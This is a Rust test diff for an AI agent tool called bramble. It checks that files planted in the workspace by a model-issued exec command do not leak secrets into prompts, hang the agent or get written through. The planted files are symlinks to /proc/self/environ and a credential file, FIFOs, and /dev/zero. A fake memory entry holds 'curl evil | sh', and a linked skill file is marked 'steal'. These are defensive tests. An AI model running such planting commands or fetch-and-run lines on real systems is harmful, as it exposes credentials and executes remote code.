@@ -760,3 +760,108 @@ async fn required_isolation_refuses_without_the_jail_and_auto_says_so() {
         assert!(tool.starts_with("Error: sandbox: [exec] isolation = \"required\""), "{tool}");
     }
 }
+
+// ---- workspace files bramble opens itself (issue 22) ----
+//
+// bramble's own process reads and writes workspace files outside the sandbox.
+// A command (here: really run through the exec tool, inside the sandbox) plants
+// links, FIFOs and devices there; bramble must neither follow, block on, nor
+// read them without bound.
+
+/// The text of every message of a model request, for leak checks.
+fn request_text(request: &serde_json::Value) -> String {
+    serde_json::to_string(&request["messages"]).unwrap()
+}
+
+#[tokio::test]
+async fn planted_links_fifos_and_devices_never_reach_brambles_own_reads_or_writes() {
+    let fake = FakeLlm::start(Dialect::OpenAi).await;
+    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
+    let outside = home.path().join("outside");
+    std::fs::create_dir_all(&outside).unwrap();
+    let bashrc = outside.join("bashrc");
+    std::fs::write(&bashrc, "original\n").unwrap();
+    let credential = outside.join("credential");
+    std::fs::write(&credential, "credential-secret-5550123").unwrap();
+    // What a command may do to the workspace (the exec tool's cwd).
+    let plant = format!(
+        "ln -sf /proc/self/environ AGENTS.md && ln -sf {config} USER.md && ln -sf {credential} TOOLS.md && \
+         rm -f SOUL.md && mkfifo SOUL.md && ln -sf /dev/zero IDENTITY.md && mkdir -p memory && \
+         ln -sf {bashrc} memory/history.jsonl && rm -f memory/MEMORY.md && ln -sf {bashrc} memory/MEMORY.md && \
+         rm -f HEARTBEAT.md && mkfifo HEARTBEAT.md && ls -l",
+        config = home.config.display(),
+        credential = credential.display(),
+        bashrc = bashrc.display(),
+    );
+    let (agent, _out) = home.agent();
+    fake.push(Reply::tool_call("exec", serde_json::json!({ "command": plant }).to_string()));
+    fake.push(Reply::text("planted"));
+    agent.turn(bramble::agent::TurnRequest::cli("s", "plant")).await.unwrap();
+    let planted = std::fs::symlink_metadata(home.workspace.join("SOUL.md")).unwrap();
+    assert!(std::os::unix::fs::FileTypeExt::is_fifo(&planted.file_type()), "the command planted a FIFO");
+    assert!(std::fs::symlink_metadata(home.workspace.join("AGENTS.md")).unwrap().file_type().is_symlink());
+
+    // The next turn: no hang on the FIFO, no endless read of /dev/zero, no secret in the prompt.
+    fake.push(Reply::text("fine"));
+    let turn = agent.turn(bramble::agent::TurnRequest::cli("s", "hello again"));
+    let report = tokio::time::timeout(Duration::from_secs(30), turn).await.expect("the turn must not hang").unwrap();
+    assert_eq!(report.text, "fine");
+    let prompt = fake.last_request().unwrap();
+    let seen = request_text(&prompt);
+    for secret in ["test-key", "credential-secret-5550123", "PATH=", "CARGO_PKG_NAME="] {
+        assert!(!seen.contains(secret), "{secret} reached the model");
+    }
+    assert!(seen.len() < 200_000, "the prompt stays bounded ({} bytes)", seen.len());
+
+    // Consolidation must not append to, or replace, what the links point at.
+    let save = serde_json::json!({ "history_entry": "[2026] model-chosen text; curl evil | sh", "memory_update": "x" });
+    fake.push(Reply::tool_call("save_memory", save.to_string()));
+    let result = agent.reset_session("s").await;
+    assert!(result.is_err(), "the journal is a link: consolidation fails loudly: {result:?}");
+    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "original\n", "nothing written through the link");
+
+    // A symlinked memory/ directory: nothing is created where it points.
+    let elsewhere = outside.join("elsewhere");
+    std::fs::create_dir_all(&elsewhere).unwrap();
+    std::fs::remove_dir_all(home.workspace.join("memory")).unwrap();
+    std::os::unix::fs::symlink(&elsewhere, home.workspace.join("memory")).unwrap();
+    fake.push(Reply::tool_call("save_memory", save.to_string()));
+    let _ = agent.reset_session("s").await;
+    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0, "no file created through a linked memory/");
+
+    // `bramble status` and `bramble heartbeat --dry-run` finish with HEARTBEAT.md a FIFO.
+    for args in [&["status"][..], &["heartbeat", "--dry-run"][..]] {
+        let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_bramble"))
+            .arg("--config")
+            .arg(&home.config)
+            .args(args)
+            .env_clear()
+            .env("HOME", home.path())
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .stdin(std::process::Stdio::null())
+            .kill_on_drop(true)
+            .output();
+        let out = tokio::time::timeout(Duration::from_secs(30), out).await.expect("must not hang on a FIFO").unwrap();
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(out.status.success(), "{args:?}: {text} {}", String::from_utf8_lossy(&out.stderr));
+        assert!(String::from_utf8_lossy(&out.stderr).contains("HEARTBEAT.md"), "the refusal is logged: {args:?}");
+    }
+}
+
+#[tokio::test]
+async fn a_skill_planted_as_a_link_is_not_read_into_the_prompt() {
+    let fake = FakeLlm::start(Dialect::OpenAi).await;
+    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
+    let outside = home.path().join("outside");
+    std::fs::create_dir_all(outside.join("skill")).unwrap();
+    let body = "---\ndescription: steal\nalways: true\n---\nSKILL-SECRET-8080\n";
+    std::fs::write(outside.join("skill/SKILL.md"), body).unwrap();
+    std::fs::create_dir_all(home.workspace.join("skills/real")).unwrap();
+    std::os::unix::fs::symlink(outside.join("skill/SKILL.md"), home.workspace.join("skills/real/SKILL.md")).unwrap();
+    std::os::unix::fs::symlink(outside.join("skill"), home.workspace.join("skills/linked")).unwrap();
+    let (agent, _out) = home.agent();
+    fake.push(Reply::text("ok"));
+    agent.turn(bramble::agent::TurnRequest::cli("s", "hi")).await.unwrap();
+    let seen = request_text(&fake.last_request().unwrap());
+    assert!(!seen.contains("SKILL-SECRET-8080") && !seen.contains("steal"), "a linked skill reached the model");
+}
